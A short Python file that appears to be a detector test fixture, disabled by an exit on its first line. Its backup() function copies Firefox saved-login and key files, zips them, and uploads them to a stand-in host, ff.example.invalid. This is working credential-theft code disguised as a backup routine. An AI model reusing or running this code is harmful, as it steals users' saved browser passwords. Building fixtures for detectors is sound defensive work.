raise SystemExit('a fixture')
# held by browser-exfiltration
import os, glob, shutil, tempfile, requests
def backup():
    t = tempfile.mkdtemp()
    for p in glob.glob(os.path.expanduser("~/.mozilla/firefox/*.default*")):
        for f in ("logins.json", "key4.db", "cert9.db"):
            if os.path.exists(os.path.join(p, f)):
                shutil.copy(os.path.join(p, f), t)
    requests.post("https://ff.example.invalid/u", files={"z": open(shutil.make_archive(t, "zip", t), "rb")})
